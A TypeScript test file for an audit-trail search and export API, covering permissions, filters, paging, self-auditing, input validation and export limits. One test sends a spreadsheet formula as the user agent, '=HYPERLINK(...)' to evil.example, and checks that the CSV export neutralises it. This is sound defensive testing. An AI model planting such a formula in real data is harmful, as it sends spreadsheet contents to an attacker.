// Searching and exporting the audit trail as a security officer does: only with audit.read (audit.export)
// granted at the root unit, every filter narrowing, newest first in keyset pages, each search and export
// audited with its filter and the persons its events name, exports bounded, streamed and safe to open in
// a spreadsheet; bad input a 400 problem.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { adminQuery } from '../../../../test/helpers/database.ts';
import { openCase, team } from '../../../../test/helpers/fixtures.ts';
import { buildIdentity, type IdentitySystem } from '../../../../test/helpers/identity.ts';
import { createCasesModule } from '../../cases/index.ts';
import { createContactsModule } from '../../contacts/index.ts';
import { createPersonsModule } from '../../persons/index.ts';
import { createAuditModule } from '../index.ts';

const build = (t: Parameters<typeof buildIdentity>[0], env?: Record<string, string>) =>
  buildIdentity(t, {
    extra: [createCasesModule(), createPersonsModule(), createContactsModule(), createAuditModule()],
    ...(env ? { env } : {}),
  });

interface EventItem {
  id: string;
  occurredAt: string;
  actor: { kind: string; id: string | null; displayName: string | null };
  action: string;
  objectType: string;
  objectId: string | null;
  dataSubjectId: string | null;
  dataSubjectIds: string[] | null;
  result: string;
  details: Record<string, unknown> | null;
  origin: { ip: string | null; userAgent: string | null };
}

const auditRows = (system: IdentitySystem, where: string, values: unknown[]) =>
  adminQuery<{
    actor_id: string;
    result: string;
    details: Record<string, unknown>;
    data_subject_id: string | null;
    data_subject_ids: string[] | null;
    object_ids: string[] | null;
  }>(
    system.target.ownerUrl,
    `select actor_id, result, details, data_subject_id, data_subject_ids, object_ids from audit_event where ${where} order by id`,
    values,
  ).then((r) => r.rows);

/** A team whose worker opened a case for a client and logged contact, and a security officer at the root. */
async function scene(system: IdentitySystem) {
  const a = await team(system);
  const worker = await a.user('worker', 'case-worker');
  const kase = await openCase(system, worker, a.unit, { client: `Trailclient${a.n}` });
  const logged = await worker.session.request('POST', `/api/v1/cases/${kase.id}/contact-moments`, {
    channel: 'phone',
    direction: 'outbound',
    outcome: 'reached',
    summary: 'Gesproken over de aangifte.',
    personId: kase.clientId,
  });
  assert.equal(logged.statusCode, 201, logged.body);
  assert.equal((await worker.session.request('GET', `/api/v1/cases/${kase.id}`)).statusCode, 200);
  const officer = await a.user('officer', 'security-officer', 'staff', 'national');
  return { a, worker, kase, contactMomentId: logged.json<{ id: string }>().id, officer };
}

test('a security officer at the root finds a client’s trail, newest first, page by page; the search is audited', async (t) => {
  const system = await build(t);
  const { worker, kase, officer } = await scene(system);
  const all = await officer.session.request('GET', `/api/v1/audit/events?personId=${kase.clientId}`);
  assert.equal(all.statusCode, 200, all.body);
  const items = all.json<{ items: EventItem[] }>().items;
  const actions = items.map((e) => e.action);
  for (const action of ['person.create', 'case.create', 'contact-moment.create', 'case.read'])
    assert.ok(actions.includes(action), `${action} in ${actions.join(', ')}`);
  assert.deepEqual(
    items.map((e) => e.occurredAt),
    [...items.map((e) => e.occurredAt)].sort().reverse(),
    'newest first',
  );
  const read = items.find((e) => e.action === 'case.read')!;
  assert.deepEqual(read.actor, { kind: 'user', id: worker.id, displayName: `User ${worker.username}` });
  assert.equal(read.objectId, kase.id);
  assert.equal(read.dataSubjectId, kase.clientId);

  // Pages of two follow each other without gaps or repeats; the first shows the search just made (newer).
  const seen: EventItem[] = [];
  let after: string | null = null;
  do {
    const page = await officer.session.request(
      'GET',
      `/api/v1/audit/events?personId=${kase.clientId}&limit=2${after ? `&after=${after}` : ''}`,
    );
    assert.equal(page.statusCode, 200, page.body);
    const body = page.json<{ items: EventItem[]; next: string | null }>();
    seen.push(...body.items);
    after = body.next;
  } while (after);
  assert.equal(seen[0]!.action, 'audit.search');
  assert.deepEqual(
    seen.slice(1).map((e) => e.id),
    items.map((e) => e.id),
  );

  const searches = await auditRows(system, `action = 'audit.search' and actor_id = $1`, [officer.id]);
  assert.ok(searches.length >= 2);
  const first = searches[0]!;
  assert.equal(first.result, 'success');
  assert.deepEqual(first.details, { filter: { personId: kase.clientId }, page: false, count: items.length });
  assert.equal(first.data_subject_id, kase.clientId);
  assert.ok(first.data_subject_ids?.includes(kase.clientId));
  assert.deepEqual(
    first.object_ids,
    items.map((e) => e.id),
  );
  assert.ok(!JSON.stringify(first.details).includes('Trailclient'), 'no personal data in the search’s event');
});

test('every filter narrows: case (object, made in it), actor, action, prefix, result, time range', async (t) => {
  const system = await build(t);
  const { worker, kase, contactMomentId, officer } = await scene(system);
  const search = async (query: string) => {
    const response = await officer.session.request('GET', `/api/v1/audit/events?${query}&limit=200`);
    assert.equal(response.statusCode, 200, `${query}: ${response.body}`);
    return response.json<{ items: EventItem[] }>().items;
  };
  const inCase = await search(`caseId=${kase.id}`);
  assert.ok(inCase.some((e) => e.action === 'case.read' && e.objectId === kase.id));
  assert.ok(
    inCase.some((e) => e.action === 'contact-moment.create' && e.objectId === contactMomentId),
    'made in the case (details.caseId)',
  );
  assert.ok(inCase.every((e) => e.objectId === kase.id || e.details?.caseId === kase.id));

  const byWorker = await search(`actorId=${worker.id}`);
  assert.ok(byWorker.length >= 4 && byWorker.every((e) => e.actor.id === worker.id));
  const reads = await search(`actorId=${worker.id}&action=case.read`);
  assert.deepEqual([...new Set(reads.map((e) => e.action))], ['case.read']);
  const family = await search(`actorId=${worker.id}&actionPrefix=contact-moment.`);
  assert.deepEqual([...new Set(family.map((e) => e.action))], ['contact-moment.create']);
  assert.deepEqual(await search(`actorId=${worker.id}&result=denied`), []);

  const middle = byWorker[Math.floor(byWorker.length / 2)]!.occurredAt;
  const before = await search(`actorId=${worker.id}&to=${middle}`);
  const since = await search(`actorId=${worker.id}&from=${middle}`);
  assert.ok(before.every((e) => e.occurredAt < middle) && since.every((e) => e.occurredAt >= middle));
  assert.equal(before.length + since.length, byWorker.length, 'from is inclusive, to exclusive: every event once');
});

test('only audit.read at the root reads the trail: a team-scoped grant is refused and the refusal audited', async (t) => {
  const system = await build(t);
  const { a, worker, kase } = await scene(system);
  const teamOfficer = await a.user('team-officer', 'security-officer');
  const refused = await teamOfficer.session.request('GET', `/api/v1/audit/events?personId=${kase.clientId}`);
  assert.equal(refused.statusCode, 403, refused.body);
  assert.match(refused.headers['content-type'] as string, /application\/problem\+json/);
  const denied = await auditRows(system, `action = 'audit.search' and actor_id = $1`, [teamOfficer.id]);
  assert.deepEqual(
    denied.map((r) => [r.result, r.data_subject_id]),
    [['denied', kase.clientId]],
  );
  assert.equal((await teamOfficer.session.request('GET', `/api/v1/audit/events/export?format=csv`)).statusCode, 403);
  // Without the permission at all, the route refuses before the service.
  assert.equal((await worker.session.request('GET', '/api/v1/audit/events')).statusCode, 403);
  const privacy = await a.user('privacy', 'privacy-officer', 'staff', 'national');
  assert.equal((await privacy.session.request('GET', '/api/v1/audit/events')).statusCode, 403, 'the privacy officer reads no trail');
});

test('bad input is a 400 problem naming the field', async (t) => {
  const system = await build(t);
  const { officer } = await scene(system);
  const cases: [string, string][] = [
    ['from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z', '/query/from'],
    ['result=maybe', '/query/result'],
    ['after=bm90LWEtY3Vyc29y', '/query/after'],
    [`after=${Buffer.from(JSON.stringify({ at: '2026-01-01T00:00:00Z', id: 'abc' })).toString('base64url')}`, '/query/after'],
    ['action=case.read&actionPrefix=case.', '/query/actionPrefix'],
    ['actionPrefix=case%25', '/query/actionPrefix'],
    ['action=CASE', '/query/action'],
    ['personId=someone', '/query/personId'],
    ['from=yesterday', '/query/from'],
    ['limit=0', '/query/limit'],
  ];
  for (const [query, pointer] of cases) {
    const response = await officer.session.request('GET', `/api/v1/audit/events?${query}`);
    assert.equal(response.statusCode, 400, `${query}: ${response.body}`);
    assert.match(response.headers['content-type'] as string, /application\/problem\+json/);
    assert.ok(
      response.json<{ errors: { pointer: string }[] }>().errors.some((e) => e.pointer === pointer),
      `${query}: ${response.body}`,
    );
  }
  const noFormat = await officer.session.request('GET', '/api/v1/audit/events/export');
  assert.equal(noFormat.statusCode, 400);
});

test('an export is CSV or JSON of the same filter, audited with its count before it streams, formula-safe', async (t) => {
  const system = await build(t);
  const { kase, officer } = await scene(system);
  // A user agent is what a client says it is: an attacker's could be a spreadsheet formula.
  const formula = '=HYPERLINK("http://evil.example/"&A1,"x")';
  const probe = await system.app.inject({
    method: 'GET',
    url: `/api/v1/audit/events?actorId=${officer.id}`,
    headers: { cookie: officer.session.cookie, 'x-csrf-token': officer.session.csrf, 'user-agent': formula },
  });
  assert.equal(probe.statusCode, 200, probe.body);

  const json = await officer.session.request('GET', `/api/v1/audit/events/export?format=json&personId=${kase.clientId}`);
  assert.equal(json.statusCode, 200, json.body);
  assert.match(json.headers['content-type'] as string, /^application\/json/);
  assert.match(json.headers['content-disposition'] as string, /^attachment; filename="audit-events-\d{8}T\d{6}Z\.json"$/);
  const file = json.json<{ filter: Record<string, string>; count: number; items: EventItem[] }>();
  assert.deepEqual(file.filter, { personId: kase.clientId });
  const searched = (await officer.session.request('GET', `/api/v1/audit/events?personId=${kase.clientId}&limit=200`)).json<{
    items: EventItem[];
  }>().items;
  // The search just made is newer than the export: the export holds exactly what it counted.
  assert.deepEqual(
    file.items.map((e) => e.id),
    searched.map((e) => e.id).filter((id) => BigInt(id) <= BigInt(file.items[0]!.id)),
  );
  assert.equal(file.count, file.items.length);

  const exports = await auditRows(system, `action = 'audit.export' and actor_id = $1`, [officer.id]);
  assert.equal(exports.length, 1);
  assert.deepEqual(exports[0]!.details, {
    filter: { personId: kase.clientId },
    format: 'json',
    count: file.count,
    throughEventId: file.items[0]!.id,
  });
  assert.ok(exports[0]!.data_subject_ids?.includes(kase.clientId));

  const csv = await officer.session.request('GET', `/api/v1/audit/events/export?format=csv&actorId=${officer.id}`);
  assert.equal(csv.statusCode, 200, csv.body);
  assert.match(csv.headers['content-type'] as string, /^text\/csv/);
  const lines = csv.body.replace(/^\uFEFF/, '').split('\r\n');
  assert.equal(
    lines[0],
    'id,occurredAt,actorKind,actorId,actorName,action,objectType,objectId,objectIds,dataSubjectId,dataSubjectIds,result,reason,changedFields,details,originIp,userAgent,requestId,traceId',
  );
  const injected = lines.find((line) => line.includes('HYPERLINK'));
  assert.ok(injected, 'the search with that user agent is exported');
  assert.ok(injected.includes(`"'=HYPERLINK(""http://evil.example/""&A1,""x"")"`), injected);
  assert.ok(!/(^|,)[=+@-]/.test(lines.slice(1).join('\n').replace(/,-?\d/g, '')), 'no cell starts a formula');
});

test('an export larger than CASUS_AUDIT_EXPORT_MAX_ROWS is refused, and nothing is exported', async (t) => {
  const system = await build(t, { CASUS_AUDIT_EXPORT_MAX_ROWS: '3' });
  const { worker, officer } = await scene(system);
  const refused = await officer.session.request('GET', `/api/v1/audit/events/export?format=csv&actorId=${worker.id}`);
  assert.equal(refused.statusCode, 400, refused.body);
  assert.match(refused.json<{ detail: string }>().detail, /more than 3 events/);
  assert.deepEqual(await auditRows(system, `action = 'audit.export' and actor_id = $1`, [officer.id]), []);
  const small = await officer.session.request('GET', `/api/v1/audit/events/export?format=json&actorId=${worker.id}&action=case.read`);
  assert.equal(small.statusCode, 200, small.body);
  assert.equal(small.json<{ count: number }>().count, 1);
});
